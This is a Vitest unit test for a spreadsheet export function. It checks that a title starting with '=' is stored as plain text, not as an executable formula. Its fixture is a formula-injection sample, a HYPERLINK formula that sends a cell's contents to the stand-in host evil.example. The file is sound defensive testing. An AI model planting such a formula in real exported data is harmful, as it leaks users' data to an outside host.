import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { toXlsx } from './spreadsheet.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('toXlsx', () => {
  it('writes a title starting with = as a text cell, not a formula, and figures as numbers', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await toXlsx({
        name: 'activities',
        header: ['title', 'balance'],
        rows: [
          [FORMULA, -12.5],
          ['-Project one', 3],
        ],
      })) as unknown as ArrayBuffer,
    );
    const sheet = workbook.worksheets[0]!;
    const title = sheet.getCell('A2');
    expect(title.type).toBe(ExcelJS.ValueType.String);
    expect(title.value).toBe(FORMULA);
    expect(title.formula).toBeUndefined();
    expect(sheet.getCell('A3').type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell('B2').value).toBe(-12.5);
  });
});
